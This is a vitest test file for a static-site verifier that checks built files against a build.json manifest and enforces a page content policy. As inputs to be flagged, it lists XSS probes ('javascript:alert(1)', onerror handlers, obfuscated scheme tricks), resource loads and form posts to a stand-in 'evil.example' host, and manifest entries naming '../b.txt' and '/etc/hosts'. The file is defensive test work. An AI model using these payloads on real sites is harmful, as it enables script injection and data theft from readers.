import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { writeManifest } from "../../src/build/manifest.ts";
import { verifySite } from "../../src/build/verify-site.ts";
import { miniSite } from "../cli/mini-site.ts";

const home = (body: string, canonical = "https://example.org/x/") =>
  `<!doctype html><html><head><link rel="canonical" href="${canonical}"></head><body>${body}</body></html>`;

/** What is told of a site of these files, its `build.json` written as a build writes it. */
async function faultsOf(
  files: Readonly<Record<string, string>>,
  change: (folder: string) => void = () => {},
) {
  const folder = miniSite(files);
  await writeManifest(folder, { version: "1.0.0", counts: {} });
  change(folder);
  return (await verifySite(folder)).faults.map(({ place, message }) => `${place}: ${message}`);
}

test("a site as it was built has no faults", async () => {
  const files = { "index.html": home('<a href="/x/a/#b">to b</a>'), "a/index.html": '<p id="b">b</p>' };
  expect(await faultsOf(files)).toEqual([]);
});

test("files that changed, are missing or were added are told", async () => {
  const files = { "index.html": home(""), "a.txt": "a", "b.txt": "b" };
  const faults = await faultsOf(files, (folder) => {
    writeFileSync(join(folder, "a.txt"), "A");
    rmSync(join(folder, "b.txt"));
    writeFileSync(join(folder, "c.txt"), "c");
  });
  expect(faults).toEqual([
    "a.txt: The file is not as it was built.",
    "b.txt: The file is missing.",
    "c.txt: The file is not listed in build.json.",
  ]);
});

test("a file that is missing is told once, with how many pages link to it", async () => {
  const link = '<a href="/x/a/">a</a><a href="/x/a/#b">b</a>';
  const files = { "index.html": home(link), "b/index.html": link, "c/index.html": link, "a/index.html": "" };
  expect(await faultsOf(files, (folder) => rmSync(join(folder, "a/index.html")))).toEqual([
    "a/index.html: The file is missing, linked from 3 pages.",
  ]);
});

test("a link to a page that was never built is told once, however many pages have it", async () => {
  const link = '<a href="/x/a/">a</a>';
  const files = { "index.html": home(link), "b/index.html": link, "c/index.html": link };
  expect(await faultsOf(files)).toEqual([
    'b/index.html: The link "/x/a/" leads to a page that is not there; 2 other pages have it too.',
  ]);
});

describe("links", () => {
  const of = (link: string) =>
    faultsOf({ "index.html": home(link), "a/index.html": '<p id="b&amp;c">b</p>', "s.css": "" });

  test.each([
    '<a href="/x/">home</a>',
    '<a href="/x/a/#b&amp;c">anchor with a reference</a>',
    '<a href="/x/a/#b%26c">anchor with an escape</a>',
    '<a href="a/">relative</a>',
    '<a href="https://example.org/x/a/">absolute</a>',
    '<a href="https://elsewhere.example/y">another site</a>',
    '<a href="mailto:desk@example.org">a program</a>',
    '<a href="#top">top</a>',
    '<link rel="stylesheet" href="/x/s.css">',
    '<!-- <a href="/x/nowhere/">in a comment</a> -->',
    "<script type='application/ld+json'>{\"a\": \"<a href='/x/nowhere/'>\"}</script>",
    "<a HREF=/x/a/#b>capitals and no quotes</a>".replace("#b", "#b&amp;c"),
    '<a href="/x/%61/">an escaped letter</a>',
    '<a href=" /x/&#10;a/ ">spaces around it and a line end in it</a>',
    '<a href="HTTPS://Example.Org/x/a/">capitals in the host</a>',
    '<img src="s.css" srcset="/x/s.css 1x, s.css?a,b 2x">',
    '<a name="old"></a><a href="#old">an old anchor</a>',
    '<a href="//elsewhere.example/y">another site, by any scheme</a>',
    '<a href="data">a file that is none of "data:"</a>'.replace('"data"', '"a/?data:"'),
    "<p>&#99999999; &#xFFFFFFFF; &#0; &nope;</p>",
    '<link rel="canonical" href="https://elsewhere.example/first-published-there">',
    '<meta http-equiv="refresh" content="5">',
    '<style>@namespace svg url(http://www.w3.org/2000/svg); p::after { content: "url(http://evil.example)" }</style>',
    '<a href="/x/a/?q=1">with a query</a>',
  ])("%s leads somewhere", async (link) => {
    expect(await of(link)).toEqual([]);
  });

  test.each([
    ['<a href="/x/nowhere/">n</a>', 'index.html: The link "/x/nowhere/" leads to a page that is not there.'],
    ['<a href="/x/a">no slash</a>', 'index.html: The link "/x/a" leads to a page that is not there.'],
    ['<a href="/a/">no prefix</a>', 'index.html: The link "/a/" leads out of the site.'],
    ['<a href="../b/">above</a>', 'index.html: The link "../b/" leads out of the site.'],
    [
      '<a href="/x/a/#d">no anchor</a>',
      'index.html: The link "/x/a/#d" leads to "d", which is no anchor of that page.',
    ],
    [
      '<a href="#d">no anchor here</a>',
      'index.html: The link "#d" leads to "d", which is no anchor of that page.',
    ],
    ['<script src="/x/s.js"></script>', 'index.html: The link "/x/s.js" leads to a page that is not there.'],
    ['<a href="/x/A/">capitals</a>', 'index.html: The link "/x/A/" leads to a page that is not there.'],
    [
      '<a href="/x/..%2fb">up, escaped</a>',
      'index.html: The link "/x/..%2fb" leads to a page that is not there.',
    ],
    ['<a href="..\\b/">above, as on Windows</a>', 'index.html: The link "..\\b/" leads out of the site.'],
    ['<a href="http://[">none</a>', 'index.html: The link "http://[" is no address.'],
    [
      '<a href="//briefings/">two slashes</a>',
      'index.html: The link "//briefings/" leads to a host named "briefings": a page of this site has one slash before it.',
    ],
    [
      '<a href="file:///home/ada/a.pdf">f</a>',
      'index.html: The link "file:///home/ada/a.pdf" leads to a file that only one machine has.',
    ],
    [
      '<a href="https://example.org/x/n/">n</a>',
      'index.html: The link "https://example.org/x/n/" leads to a page that is not there.',
    ],
  ])("%s does not", async (link, fault) => {
    expect(await of(link)).toEqual([fault]);
  });
});

test("a link that climbs above the top of a site at the top of its host is told, though browsers stop there", async () => {
  const pages = { "a/b/index.html": '<a href="../../../a/b/">up</a><a href="../../a/b/">fine</a>' };
  expect(await faultsOf({ "index.html": home("", "https://example.org/"), ...pages })).toEqual([
    'a/b/index.html: The link "../../../a/b/" leads out of the site.',
  ]);
});

test("a fault of the layout is told once, however many pages have it", async () => {
  const html = home('<script src="https://cdn.example/a.js"></script>');
  expect(await faultsOf({ "index.html": html, "a/index.html": html, "b/index.html": html })).toEqual([
    `a/index.html: "https://cdn.example/a.js" ${fromElsewhere.replace(/\.$/, "")}; 2 other pages have it too.`,
  ]);
});

const fromElsewhere =
  "is loaded from another site, which the policy for this site's pages refuses: keep a copy in this one.";

describe("what a page loads from another site is told", () => {
  const evil = "https://evil.example/x";
  test.each([
    `<script src=${evil}></script>`,
    `<SCRIPT SRC='${evil}'></SCRIPT>`,
    `<script\n/src\t=\n${evil}></script>`,
    `<script src="https&colon;//evil.example/x"></script>`,
    `<link rel="preload STYLESHEET" href="${evil}">`,
    `<link rel=icon href=${evil}>`,
    `<link rel="preconnect" href="${evil}">`,
    `<link rel=preload as=image imagesrcset="/x/s.css 1x, ${evil} 2x">`,
    `<link rel=manifest href=${evil}>`,
    `<img src=${evil}>`,
    `<img srcset="/x/s.css, ${evil} 2x">`,
    `<picture><source srcset="${evil}"></picture>`,
    `<video poster=${evil}></video>`,
    `<audio src=${evil}></audio>`,
    `<track src=${evil}>`,
    `<iframe src=${evil}></iframe>`,
    `<iframe srcdoc="&lt;img src=${evil}&gt;"></iframe>`,
    `<embed src=${evil}>`,
    `<object data=${evil}></object>`,
    `<input type=image src=${evil}>`,
    `<table background=${evil}></table>`,
    `<a href="/x/" ping="/x/ ${evil}">a</a>`,
    `<svg><use href="${evil}"/></svg>`,
    `<svg><image xlink:href="${evil}"/></svg>`,
    `<svg><a href="/x/" xlink:href="/x/"><rect fill="url(${evil})"/></a></svg>`,
    `<template><img src=${evil}></template>`,
    `<noscript><img src=${evil}></noscript>`,
    `<noscript><!-- </noscript><img src=${evil}> --></noscript>`,
    `<p style="background: url(${evil})">p</p>`,
    `<p style="background: u\\72l('${evil}')">p</p>`,
    `<style>@import "${evil}";</style>`,
    `<style>@IMPORT url( ${evil} ) print;</style>`,
    `<style>p { background: image-set("${evil}" 1x) }</style>`,
    `<style>p { background: image-set(var(--none, "${evil}") 1x) }</style>`,
    `<select><option><img src=${evil}></select>`,
  ])("%s", async (html) => {
    expect(await faultsOf({ "index.html": home(html), "s.css": "" })).toEqual([
      `index.html: "${evil}" ${fromElsewhere}`,
    ]);
  });

  test.each([
    ["a.css", `/* url(no) */ @font-face { src: url("${evil}") }`],
    ["a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}"/></svg>`],
    [
      "a.svg",
      `<s:svg xmlns:s="http://www.w3.org/2000/svg"><style><![CDATA[ @import "${evil}"; ]]></style></s:svg>`,
    ],
    ["a.SVG", `<?xml-stylesheet type="text/css" href="${evil}"?><svg/>`],
  ])("in %s: %s", async (path, text) => {
    expect(await faultsOf({ "index.html": home(""), [path]: text })).toEqual([
      `${path}: "${evil}" ${fromElsewhere}`,
    ]);
  });

  test("in a form and by itself, too", async () => {
    const html = `<form action="${evil}"><button formaction="//evil.example/y">b</button></form>
      <meta http-equiv=Refresh content="0; URL='${evil}'">`;
    expect(await faultsOf({ "index.html": home(html) })).toEqual([
      `index.html: A form sends what readers enter to "//evil.example/y", another site.`,
      `index.html: A form sends what readers enter to "${evil}", another site.`,
      `index.html: The page sends its readers on to "${evil}", another site.`,
    ]);
  });
});

describe("what runs or hides in a page is told", () => {
  const inPage =
    "A script stands in the page itself, which the policy for this site's pages refuses: give it a file.";
  const handler = (name: string, element: string) =>
    `The attribute "${name}" of <${element}> is a script, which the policy for this site's pages refuses.`;
  const runs = (link: string) =>
    `The link "${link}" runs a script, which the policy for this site's pages refuses.`;
  test.each([
    ["<script>alert(1)</script>", inPage],
    ["<script type=module>alert(1)</script>", inPage],
    ["<svg><script>alert(1)</script></svg>", inPage],
    ["<IMG SRC=/x/ ONERROR=alert(1)>", handler("onerror", "img")],
    ["<svg onload=alert(1)></svg>", handler("onload", "svg")],
    ['<base href="/y/">', '<base href="/y/"> moves every link of the page.'],
    ["<a href=JavaScript:alert(1)>a</a>", runs("JavaScript:alert(1)")],
    ['<a href=" java&#115;cript:alert(1)">a</a>', runs(" javascript:alert(1)")],
    ['<a href="java&Tab;script:alert(1)">a</a>', runs("java\tscript:alert(1)")],
    ["<a href=vbscript:x>a</a>", runs("vbscript:x")],
    ["<form action=javascript:alert(1)></form>", runs("javascript:alert(1)")],
    ["<iframe src=javascript:alert(1)></iframe>", runs("javascript:alert(1)")],
    ["<svg><a xlink:href=javascript:alert(1)></a></svg>", runs("javascript:alert(1)")],
    ["<svg><a><animate attributeName=href to=javascript:alert(1) /></a></svg>", runs("javascript:alert(1)")],
    ["<math><mi href=javascript:alert(1)></mi></math>", runs("javascript:alert(1)")],
    [
      "<a href='data:text/html,x'>a</a>",
      'The link "data:text/html,x" holds a page of its own, which browsers refuse to open.',
    ],
    [
      "<img src='data:image/png;base64,AA=='>",
      `"data:image/png;base64,AA==" is loaded from the page itself, which the policy for this site's pages refuses: give it a file.`,
    ],
  ])("%s", async (html, fault) => {
    expect(await faultsOf({ "index.html": home(html) })).toEqual([`index.html: ${fault}`]);
  });

  test("in an SVG file as XML reads it: no element there turns tags into text", async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><p/><style><script>alert(1)</script></style></svg>';
    expect(await faultsOf({ "index.html": home(""), "a.svg": svg })).toEqual([`a.svg: ${inPage}`]);
  });
});

describe("what stands in the folder", () => {
  const files = { "index.html": home(""), "a/b.txt": "b", "c.txt": "c" };

  test("a link with the same bytes, a pipe and a folder in the place of a file are told, and hold nothing up", async () => {
    const faults = await faultsOf(files, (folder) => {
      renameSync(join(folder, "c.txt"), `${folder}-c.txt`);
      onTestFinished(() => rmSync(`${folder}-c.txt`));
      symlinkSync(`${folder}-c.txt`, join(folder, "c.txt"));
      symlinkSync("a", join(folder, "d"));
      execFileSync("mkfifo", [join(folder, "pipe.html")]);
      rmSync(join(folder, "a"), { recursive: true });
      mkdirSync(join(folder, "a/b.txt"), { recursive: true });
      writeFileSync(join(folder, "a/b.txt/e"), "");
    });
    const isLink = "This is a symbolic link, no file: whatever it leads to is no part of the site.";
    expect(faults).toEqual([
      "a/b.txt: A folder stands in the place of the file.",
      "a/b.txt/e: The file is not listed in build.json.",
      `c.txt: ${isLink}`,
      `d: ${isLink}`,
      "pipe.html: This is a pipe, no file: a site is made of files.",
    ]);
  });

  test("what the guides have copied in for a host is no fault", async () => {
    const faults = await faultsOf(files, (folder) => {
      for (const name of ["_headers", "_redirects", "CNAME", ".nojekyll"])
        writeFileSync(join(folder, name), "x");
      writeFileSync(join(folder, "a/CNAME"), "x");
    });
    expect(faults).toEqual(["a/CNAME: The file is not listed in build.json."]);
  });

  test("a file that may not be read, one that is no UTF-8 and one with an odd name are told, and the rest is checked", async () => {
    const faults = await faultsOf({ ...files, "odd \u001b[31m.html": "<a href=/x/n/>" }, (folder) => {
      writeFileSync(join(folder, "c.txt"), "C");
      writeFileSync(join(folder, "l.html"), Buffer.from([0x3c, 0x70, 0x3e, 0xe9]));
      chmodSync(join(folder, "a/b.txt"), 0);
      chmodSync(folder, 0o755);
      // As root every file may be read.
      if (process.geteuid?.() === 0) {
        process.seteuid?.(65_534);
        onTestFinished(() => process.seteuid?.(0));
      }
    });
    expect(faults).toEqual([
      "a/b.txt: The file can't be read: permission is denied.",
      "c.txt: The file is not as it was built.",
      "l.html: The file is not listed in build.json.",
      "l.html: The text is not valid UTF-8.",
      'odd \u001b[31m.html: The link "/x/n/" leads to a page that is not there.',
    ]);
  });

  test("ten thousand elements in each other are read like others", async () => {
    const html = home(`${"<div>".repeat(10_000)}<a href="/x/n/">n</a>`);
    expect(await faultsOf({ "index.html": html })).toHaveLength(1);
  });
});

describe("a build.json that no build wrote", () => {
  const sha256 = createHash("sha256").update("a").digest("hex");
  /** What is told of a site of one file, "a.txt", with this list. */
  const withList = (list: string) =>
    faultsOf({ "a.txt": "a" }, (folder) => writeFileSync(join(folder, "build.json"), list));
  const listOf = (entries: string) => `{\n"counts": {},\n"files": {\n${entries}\n},\n"version": "1.0.0"\n}\n`;
  const good = ` "a.txt": {"bytes":1,"sha256":"${sha256}"}`;

  test("is told apart from one that a build wrote", async () => {
    expect(await withList(listOf(good))).toEqual([]);
  });

  test.each([
    [
      `${good},\n "../b.txt": {"bytes":1,"sha256":"${sha256}"}`,
      ['The list names "../b.txt", which can be no file of a site.'],
    ],
    [
      `${good},\n "/etc/hosts": {"bytes":1,"sha256":"${sha256}"}`,
      ['The list names "/etc/hosts", which can be no file of a site.'],
    ],
    [`${good},\n "b": {"bytes":1e999,"sha256":"${sha256}"}`, ['What the list says of "b" can\'t be read.']],
    [`${good},\n "b": {"bytes":-1,"sha256":"${sha256}"}`, ['What the list says of "b" can\'t be read.']],
    [`${good},\n "b": ["x"]`, ['What the list says of "b" can\'t be read.']],
    [`${good},\n${good}`, ["The list is not as a build writes it: it was changed, or names a file twice."]],
  ])("%s", async (entries, told) => {
    expect(await withList(listOf(entries))).toEqual(told.map((message) => `build.json: ${message}`));
  });

  test("a file named __proto__ is one like others", async () => {
    const entries = ` "__proto__": {"bytes":1,"sha256":"${sha256}"},\n${good}`;
    expect(await withList(listOf(entries))).toEqual(["__proto__: The file is missing."]);
  });

  test.each(["[]", '{"name": "other"}', "null", '{"files": []}', "[".repeat(100_000)])(
    "%.20s is no list at all",
    async (list) => {
      await expect(withList(list)).rejects.toThrow(/^build\.json in ".*" (?:is no list|can't be read)/);
    },
  );

  test("that is a pipe holds nothing up", async () => {
    const piped = faultsOf({}, (folder) => {
      rmSync(join(folder, "build.json"));
      execFileSync("mkfifo", [join(folder, "build.json")]);
    });
    await expect(piped).rejects.toThrow(/^build\.json in ".*" is no file\.$/);
  });
});

test("a folder that is no site is told apart from one with faults", async () => {
  await expect(verifySite(join(miniSite(), "nowhere"))).rejects.toThrow(/^There is no folder /);
  await expect(verifySite(join(miniSite({ "a.txt": "" }), "a.txt"))).rejects.toThrow(
    /" is a file, and a site is a folder\.$/,
  );
  await expect(verifySite(miniSite({ "index.html": "" }))).rejects.toThrow(
    /has no build\.json, so it is no site that was built here\.$/,
  );
  await expect(verifySite(miniSite({ "build.json": "{" }))).rejects.toThrow(/it is damaged\.$/);
});
